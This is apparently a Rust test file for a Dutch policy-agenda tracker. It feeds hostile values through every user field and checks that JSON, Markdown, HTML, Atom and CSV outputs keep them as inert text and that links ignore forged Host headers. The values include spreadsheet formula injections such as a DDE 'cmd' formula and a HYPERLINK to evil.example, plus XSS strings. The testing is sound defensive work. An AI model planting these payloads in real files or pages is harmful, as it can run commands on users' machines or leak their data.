//! Outputs that are safe to open (issue 15): a table of hostile values, each
//! put in every user-set field that reaches an output (organisatie, agenda,
//! groeperingsniveau, groepering, opgave, doel, actie omschrijving, reden,
//! trekker, voortgangsbericht, reflectie, indicator naam and eenheid,
//! checkmoment, besluit, onderbouwing), then read back as JSON, Markdown
//! (rendered by a CommonMark renderer), HTML, Atom (parsed as XML) and CSV
//! (parsed, then imported again). Also: Atom links and `Location`/`Link`
//! never follow `Host` or forwarded headers.

use chrono::NaiveDate;
use mag_tracker::access::Rol;
use mag_tracker::domain::actie::{ActieStatus, Trekker};
use mag_tracker::domain::checkmoment;
use mag_tracker::domain::events::*;
use mag_tracker::domain::indicator::{self, MetingStatus, Richting, Waarde};
use mag_tracker::domain::reflectie::{self, Onderwerp, OnderwerpSoort, PdcaFase};
use mag_tracker::domain::Event;
use mag_tracker::event_store::ExpectedVersion;
use mag_tracker::service::{StreamEvents, WriteContext};
use serde_json::{json, Value};
use uuid::Uuid;

use super::nieuwsbrief::{fetch, fetch_json, spawn_with, App};

pub const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"Klik\")",
    "=cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "'=al gequote",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- verborgen --> <?php ?>",
    "[klik](http://evil.example) en ![plaatje](http://evil.example/x.png)",
    "<http://evil.example> <info@evil.example>",
    "# Kop",
    "Campagne #",
    "- lijst",
    "1. genummerd",
    "> citaat",
    "| a | b |",
    "```code```",
    "`code` *nadruk* _nadruk_ **vet** ~~weg~~",
    "&amp; &#60; &lt; &copy;",
    "]]> \" ' & < > </feed>",
    "\\*geen\\* \\",
    "[ref]: http://evil.example",
];

/// Ordinary Dutch sentences: they reach every output the same way, and the
/// Markdown shows them without a single backslash.
pub const ORDINARY: &[&str] = &[
    "Het project is uitgebreid! #NOFilter",
    "Stand: 3 - 2 voor; fase 1. is klaar",
    "Kosten < 5.000 euro & 40% * 2 = 80% (R&D)",
];

fn block<T>(f: impl std::future::Future<Output = T>) -> T {
    tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap()
        .block_on(f)
}

fn d(s: &str) -> NaiveDate {
    NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap()
}

fn create(app: &App, events: Result<Vec<Event>, mag_tracker::domain::DomainError>) -> Uuid {
    let id = Uuid::now_v7();
    let events = events.unwrap();
    block(app.state.service.structural(WriteContext::default(), |_| {
        Ok(vec![StreamEvents {
            stream_id: id,
            expected: ExpectedVersion::NoStream,
            events,
        }])
    }))
    .unwrap();
    id
}

/// An agenda in which every user-set field is `v`, with one change of every
/// kind in the voortgang; returns (agenda id, position before it).
fn hostile_agenda(app: &App, v: &str) -> (Uuid, u64) {
    let start = app.state.store.head();
    let file = json!({
        "formaat": "mag-tracker/agenda", "formaatVersie": 1,
        "organisaties": [{"naam": v, "soort": "overig"}],
        "agenda": {
            "naam": v, "gemeenten": ["Twenterand"],
            "periodeStartDatum": "2024-01-01", "periodeEindDatum": "2024-12-31",
            "gepubliceerd": true,
            "groeperingsniveaus": [{"enkelvoud": v, "meervoud": v}],
            "groeperingen": [{"code": "1", "naam": v, "opgaven": [{
                "code": "1.1", "titel": v, "geprioriteerd": true,
                "doelen": [{"code": "1.1.1", "titel": v, "geprioriteerd": true, "acties": [{
                    "omschrijving": v, "jaar": 2024, "trekker": {"organisatie": v},
                    "partners": [v], "status": "gepland"
                }]}]
            }]}]
        }
    });
    let beheerder = app.als_beheerder();
    let mut r = beheerder
        .agent()
        .post(beheerder.url("/agenda-imports"))
        .header("Content-Type", "application/json")
        .send(file.to_string())
        .unwrap();
    let created: Value = r.body_mut().read_json().unwrap();
    assert_eq!(r.status().as_u16(), 201, "{v:?}: {created}");
    let (agenda, actie, doel, opgave, org) = {
        let m = app.state.service.model();
        let agenda = *m.agendas.iter().find(|(_, a)| a.state.naam == v).unwrap().0;
        let actie = m
            .acties
            .values()
            .find(|a| a.state.agenda_id == agenda)
            .unwrap();
        let org = *m
            .organisaties
            .iter()
            .find(|(_, o)| o.state.naam == v)
            .unwrap()
            .0;
        (
            agenda,
            actie.id,
            actie.state.doel_id.unwrap(),
            actie.state.opgave_id,
            org,
        )
    };
    let s = &app.state.service;
    let update = |id: Uuid, decide: &dyn Fn(&mag_tracker::projections::ReadModel) -> Vec<Event>| {
        block(s.update(id, WriteContext::default(), |m| {
            let version = [
                m.acties.get(&id).map(|a| a.version),
                m.indicatoren.get(&id).map(|i| i.version),
                m.checkmomenten.get(&id).map(|c| c.version),
            ]
            .into_iter()
            .flatten()
            .next()
            .unwrap();
            Ok((version, decide(m)))
        }))
        .unwrap();
    };
    update(actie, &|m| {
        m.acties[&actie]
            .state
            .add_voortgang(VoortgangsberichtToegevoegd {
                bericht_id: Uuid::now_v7(),
                datum: d("2024-05-01"),
                auteur_organisatie_id: Some(org),
                tekst: v.into(),
            })
            .unwrap()
    });
    update(actie, &|m| {
        m.acties[&actie]
            .state
            .assign_trekker(Some(Trekker::Groep { naam: v.to_owned() }))
            .unwrap()
    });
    update(actie, &|m| {
        m.acties[&actie]
            .state
            .change_status(ActieStatus::Vervallen, d("2024-06-01"), Some(v.to_owned()))
            .unwrap()
    });
    create(
        app,
        reflectie::add(ReflectieToegevoegd {
            agenda_id: agenda,
            over: Onderwerp {
                soort: OnderwerpSoort::Doel,
                id: doel,
            },
            auteur_organisatie_id: Some(org),
            fase: PdcaFase::Do,
            datum: d("2024-07-01"),
            wat_ging_goed: None,
            wat_kan_beter: None,
            volgende_stappen: None,
            tekst: Some(v.into()),
        }),
    );
    let ind = create(
        app,
        indicator::create(IndicatorAangemaakt {
            agenda_id: agenda,
            doel_id: doel,
            naam: v.to_owned(),
            eenheid: v.to_owned(),
            richting: Richting::HogerIsBeter,
            bron: None,
            eigenaar_organisatie_id: None,
            nulmeting: None,
            streefwaarden: vec![Waarde {
                jaar: Some(2024),
                waarde: 10.0,
                ondergrens: None,
                bovengrens: None,
            }],
        }),
    );
    update(ind, &|m| {
        m.indicatoren[&ind]
            .state
            .record(MetingVastgelegd {
                meting_id: Uuid::now_v7(),
                periode: "2024-Q2".into(),
                meet_datum: Some(d("2024-07-01")),
                waarde: 5.0,
                status: MetingStatus::Voorlopig,
                bron: None,
                toelichting: None,
                door_organisatie_id: None,
                gemeente: None,
            })
            .unwrap()
    });
    let cm = create(
        app,
        checkmoment::open(CheckmomentGeopend {
            agenda_id: agenda,
            opgave_id: Some(opgave),
            datum: d("2024-09-01"),
            onderwerp: v.to_owned(),
            deelnemers: vec![org],
        }),
    );
    update(cm, &|m| {
        m.checkmomenten[&cm]
            .state
            .decide(BijsturingVastgelegd {
                bijsturing_id: Uuid::now_v7(),
                besluit: v.to_owned(),
                onderbouwing: v.to_owned(),
                datum: d("2024-09-01"),
                voorgenomen_wijzigingen: vec![],
            })
            .unwrap()
    });
    (agenda, start)
}

fn squash(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The text a CommonMark renderer (GitHub extensions on) shows; panics on
/// anything but headings, paragraphs, lists and our own bold.
fn markdown_text(md: &str) -> String {
    use pulldown_cmark::{Event as M, Options, Parser, Tag, TagEnd};
    let mut text = String::new();
    for event in Parser::new_ext(
        md,
        Options::ENABLE_GFM
            | Options::ENABLE_TABLES
            | Options::ENABLE_STRIKETHROUGH
            | Options::ENABLE_TASKLISTS
            | Options::ENABLE_FOOTNOTES,
    ) {
        match event {
            M::Text(t) => text.push_str(&t),
            M::Start(Tag::Strong) | M::End(TagEnd::Strong) => {}
            M::SoftBreak
            | M::Start(Tag::Paragraph | Tag::Heading { .. } | Tag::Item | Tag::List(None))
            | M::End(TagEnd::Paragraph | TagEnd::Heading(_) | TagEnd::Item | TagEnd::List(false)) => {
                text.push(' ')
            }
            other => panic!("user text became markup: {other:?} in\n{md}"),
        }
    }
    text
}

/// The text of the HTML fragment; panics on any tag it may not have.
fn html_text(html: &str) -> String {
    const TAGS: &[&str] = &[
        "<article class=\"voortgang\">",
        "</article>",
        "<h1>",
        "</h1>",
        "<h2>",
        "</h2>",
        "<h3>",
        "</h3>",
        "<h4>",
        "</h4>",
        "<p>",
        "</p>",
        "<ul>",
        "</ul>",
        "<li>",
        "</li>",
        "<strong>",
        "</strong>",
    ];
    let mut text = String::new();
    let mut rest = html;
    while let Some(i) = rest.find('<') {
        text.push_str(&rest[..i]);
        let end = rest[i..].find('>').expect("a closed tag") + i + 1;
        let tag = &rest[i..end];
        assert!(TAGS.contains(&tag), "unexpected tag {tag} in\n{html}");
        if !tag.contains("strong") {
            text.push(' ');
        }
        rest = &rest[end..];
    }
    text.push_str(rest);
    assert!(!text.contains('>'), "an unescaped > in\n{html}");
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

/// Element names and the decoded text of the feed, and every href.
fn atom_text(xml: &str) -> (String, Vec<String>) {
    use quick_xml::events::Event as X;
    const NAMES: &[&str] = &[
        "feed",
        "id",
        "title",
        "updated",
        "author",
        "name",
        "link",
        "generator",
        "entry",
        "content",
    ];
    let mut reader = quick_xml::Reader::from_str(xml);
    let (mut text, mut hrefs) = (String::new(), Vec::new());
    loop {
        match reader.read_event().expect("well-formed XML") {
            X::Start(e) | X::Empty(e) => {
                let name = String::from_utf8(e.name().as_ref().to_vec()).unwrap();
                assert!(NAMES.contains(&name.as_str()), "element {name} in\n{xml}");
                for a in e.attributes() {
                    let a = a.unwrap();
                    if a.key.as_ref() == b"href" {
                        hrefs.push(
                            String::from_utf8(a.value.to_vec())
                                .unwrap()
                                .replace("&amp;", "&"),
                        );
                    }
                }
                text.push(' ');
            }
            X::Text(t) => text.push_str(&t.decode().unwrap()),
            X::GeneralRef(r) => {
                let ch = match &*r {
                    b"lt" => "<",
                    b"gt" => ">",
                    b"amp" => "&",
                    b"quot" => "\"",
                    b"apos" => "'",
                    other => panic!("entity {other:?}"),
                };
                text.push_str(ch);
            }
            X::CData(_) => panic!("CDATA in\n{xml}"),
            X::Eof => break,
            _ => text.push(' '),
        }
    }
    (text, hrefs)
}

const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn hostile_text_in_every_field_stays_text_in_every_output() {
    let app = spawn_with(true, Some("https://mag.example.nl"));
    for v in HOSTILE.iter().chain(ORDINARY) {
        let (agenda, start) = hostile_agenda(&app, v);
        // the pm token of spawn time does not list the new agenda
        let token = app.token(Rol::Programmamanager, "Gemeente Twenterand", vec![agenda]);
        let pm = app.als(&token);
        let path = format!("/agendas/{agenda}/voortgang?sindsPositie={start}");

        // JSON: the value itself, in every field.
        let (status, j) = fetch_json(pm, &path);
        assert_eq!(status, 200, "{j}");
        let g = &j["groeperingen"][0];
        let o = &g["opgaven"][0];
        for (field, value) in [
            ("agenda", &j["agenda"]),
            ("groeperingsniveau", &j["groeperingsniveau"]),
            ("groepering", &g["naam"]),
            ("opgave", &o["titel"]),
            ("nieuwe actie", &o["actiesToegevoegd"][0]["omschrijving"]),
            ("reden", &o["actiesVervallen"][0]["reden"]),
            (
                "vorige trekker",
                &o["trekkerwijzigingen"][0]["vorigeTrekker"],
            ),
            (
                "nieuwe trekker",
                &o["trekkerwijzigingen"][0]["nieuweTrekker"],
            ),
            ("bericht", &o["voortgangsberichten"][0]["tekst"]),
            ("auteur", &o["voortgangsberichten"][0]["auteurOrganisatie"]),
            ("reflectie", &o["reflecties"][0]["fragment"]),
            ("doel", &o["reflecties"][0]["overTitel"]),
            ("indicator", &o["metingen"][0]["indicator"]),
            ("eenheid", &o["metingen"][0]["eenheid"]),
            ("checkmoment", &o["bijsturingen"][0]["checkmoment"]),
            ("besluit", &o["bijsturingen"][0]["besluit"]),
            ("onderbouwing", &o["bijsturingen"][0]["onderbouwing"]),
        ] {
            assert_eq!(value.as_str(), Some(*v), "{field} in {j}");
        }

        // Markdown and HTML show the same text, and only their own markup.
        let (_, _, md) = fetch(pm, &format!("{path}&formaat=markdown"), "*/*");
        let (_, _, html) = fetch(pm, &format!("{path}&formaat=html"), "*/*");
        let (md_text, html_text) = (squash(&markdown_text(&md)), squash(&html_text(&html)));
        assert_eq!(md_text, html_text, "{v:?}:\n{md}\n{html}");
        if ORDINARY.contains(v) {
            assert!(!md.contains('\\'), "{v:?} got a backslash:\n{md}");
        }
        let shown = md_text.matches(&squash(v)).count();
        assert!(shown >= 17, "{v:?} shown {shown} times:\n{md}");

        // Atom: well-formed, the value as text, links from --public-url only.
        let (_, _, xml) = fetch(pm, &format!("/agendas/{agenda}/voortgang.atom"), "*/*");
        let (text, hrefs) = atom_text(&xml);
        assert!(text.matches(v).count() >= 10, "{v:?} in\n{xml}");
        assert!(
            hrefs
                .iter()
                .all(|h| h.starts_with("https://mag.example.nl/v1/")),
            "{hrefs:?}"
        );

        // CSV: no cell starts a formula; the export imports back to the same text.
        let (status, _, csv) = fetch(pm, &format!("/agendas/{agenda}/export?formaat=csv"), "*/*");
        assert_eq!(status, 200);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
        let headers = reader.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1);
        let cell = |name: &str| &rows[0][headers.iter().position(|h| h == name).unwrap()];
        for row in &rows {
            for c in row {
                assert!(!c.starts_with(FORMULA), "{c:?} opens as a formula");
            }
        }
        let expected = if v.trim_start_matches('\'').starts_with(FORMULA) {
            format!("'{v}")
        } else {
            v.to_string()
        };
        for column in [
            "groeperingNaam",
            "opgaveTitel",
            "doelTitel",
            "omschrijving",
            "trekker",
            "partners",
        ] {
            assert_eq!(cell(column), expected, "{column} of {v:?}");
        }
        // ` | ` separates partners in one cell: a partner named with a `|` cannot
        // come back from CSV (documented); leave it out of the round trip.
        let csv = if v.contains('|') {
            let p = headers.iter().position(|h| h == "partners").unwrap();
            let mut w = csv::WriterBuilder::new()
                .delimiter(b';')
                .from_writer(Vec::new());
            w.write_record(&headers).unwrap();
            let row: Vec<&str> = (0..rows[0].len())
                .map(|i| if i == p { "" } else { &rows[0][i] })
                .collect();
            w.write_record(row).unwrap();
            String::from_utf8(w.into_inner().unwrap()).unwrap()
        } else {
            csv
        };
        let q = "/agenda-imports?naam=Terug&gemeenten=Twenterand&periodeStartDatum=2024-01-01&periodeEindDatum=2024-12-31";
        let mut r = app
            .als_beheerder()
            .agent()
            .post(app.als_beheerder().url(q))
            .header("Content-Type", "text/csv")
            .send(csv.as_bytes())
            .unwrap();
        let created: Value = r.body_mut().read_json().unwrap();
        assert_eq!(r.status().as_u16(), 201, "{v:?}: {created}");
        let again = created["agendaId"].as_str().unwrap();
        let token = app.token(
            Rol::Programmamanager,
            "Gemeente Twenterand",
            vec![again.parse().unwrap()],
        );
        let (_, file) = fetch_json(
            app.als(&token),
            &format!("/agendas/{again}/export?formaat=json"),
        );
        let g = &file["agenda"]["groeperingen"][0];
        let o = &g["opgaven"][0];
        let a = &o["doelen"][0]["acties"][0];
        for (field, value) in [
            ("groepering", &g["naam"]),
            ("opgave", &o["titel"]),
            ("doel", &o["doelen"][0]["titel"]),
            ("omschrijving", &a["omschrijving"]),
            ("trekker", &a["trekker"]["groep"]),
        ] {
            assert_eq!(
                value.as_str(),
                Some(*v),
                "{field} after export → import: {file}"
            );
        }
    }
}

/// Atom links and `Location`/`Link` headers: without `--public-url` they
/// are paths, whatever `Host`, `X-Forwarded-Host` or `Forwarded` say; with
/// it they start with it.
#[test]
fn links_never_follow_host_or_forwarded_headers() {
    let forged: &[(&str, &str)] = &[
        ("X-Forwarded-Host", "evil.example"),
        ("X-Forwarded-Proto", "https"),
        ("Forwarded", "host=evil.example;proto=https"),
        ("Host", "evil.example"),
    ];
    let app = spawn_with(true, None);
    let agenda = *app.state.service.model().agendas.keys().next().unwrap();
    let mut req = app.anoniem().agent().get(
        app.anoniem()
            .url(&format!("/agendas/{agenda}/voortgang.atom")),
    );
    for (k, v) in forged {
        req = req.header(*k, *v);
    }
    let mut r = req.call().unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let xml = r.body_mut().read_to_string().unwrap();
    assert!(!xml.contains("evil.example"), "{xml}");
    let (_, hrefs) = atom_text(&xml);
    assert!(!hrefs.is_empty());
    assert!(hrefs.iter().all(|h| h.starts_with("/v1/")), "{hrefs:?}");
    let mut req = app
        .anoniem()
        .agent()
        .get(app.anoniem().url("/agendas?pageSize=1"));
    for (k, v) in forged {
        req = req.header(*k, *v);
    }
    let r = req.call().unwrap();
    let link = r.headers().get("link").unwrap().to_str().unwrap();
    assert!(link.starts_with("</v1/agendas?"), "{link}");

    let app = spawn_with(true, Some("https://mag.example.nl/"));
    let mut req = app
        .anoniem()
        .agent()
        .get(app.anoniem().url("/agendas?pageSize=1"));
    for (k, v) in forged {
        req = req.header(*k, *v);
    }
    let r = req.call().unwrap();
    let link = r.headers().get("link").unwrap().to_str().unwrap();
    assert!(
        link.starts_with("<https://mag.example.nl/v1/agendas?"),
        "{link}"
    );
    assert!(!link.contains("evil"), "{link}");
    let r = app
        .als_beheerder()
        .agent()
        .post(app.als_beheerder().url("/organisaties"))
        .header("Content-Type", "application/json")
        .header("X-Forwarded-Host", "evil.example")
        .send(json!({"naam": "Stichting Link", "soort": "overig"}).to_string())
        .unwrap();
    assert_eq!(r.status().as_u16(), 201);
    let location = r.headers().get("location").unwrap().to_str().unwrap();
    assert!(
        location.starts_with("https://mag.example.nl/v1/organisaties/"),
        "{location}"
    );
}
